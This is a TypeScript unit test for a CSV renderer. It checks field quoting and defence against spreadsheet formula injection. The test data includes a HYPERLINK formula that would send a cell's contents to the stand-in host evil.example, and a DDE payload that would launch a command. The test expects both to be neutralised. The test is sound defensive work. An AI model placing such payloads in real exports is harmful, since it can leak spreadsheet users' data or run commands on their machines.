import assert from 'node:assert/strict';
import { describe, it } from 'node:test';
import { renderCsv } from './machine.ts';

describe('renderCsv', () => {
  it('quotes fields with comma, quote, CR or LF and doubles embedded quotes', () => {
    const out = renderCsv(['a', 'b'] as const, [
      { a: 'plain', b: 'with,comma' },
      { a: 'say "hi"', b: 'line\nbreak' },
      { a: 'cr\rhere', b: 1.5 },
      { a: null, b: undefined },
      { a: ' spaced ', b: Number.NaN },
    ]);
    assert.equal(
      out,
      'a,b\nplain,"with,comma"\n"say ""hi""","line\nbreak"\n"cr\rhere",1.5\n,\n spaced ,\n',
    );
  });

  it('keeps a spreadsheet from running a cell as a formula, and numbers as numbers', () => {
    const out = renderCsv(['service', 'cpu'] as const, [
      { service: '=HYPERLINK("http://evil.example/?x="&A1,"open")', cpu: -5 },
      { service: '+cmd|"/c calc"!A0', cpu: 0 },
      { service: '-2+3', cpu: 12.5 },
      { service: '@SUM(A1:A9)', cpu: null },
      { service: '\tTabbed', cpu: 1 },
      { service: '\rReturned', cpu: 1 },
      { service: '-5', cpu: 1 },
      { service: 'Pay=ment', cpu: 1 },
    ]);
    assert.equal(
      out,
      [
        'service,cpu',
        `"'=HYPERLINK(""http://evil.example/?x=""&A1,""open"")",-5`,
        `"'+cmd|""/c calc""!A0",0`,
        `"'-2+3",12.5`,
        `"'@SUM(A1:A9)",`,
        `"'\tTabbed",1`,
        `"'\rReturned",1`,
        '-5,1',
        'Pay=ment,1',
        '',
      ].join('\n'),
    );
  });
});
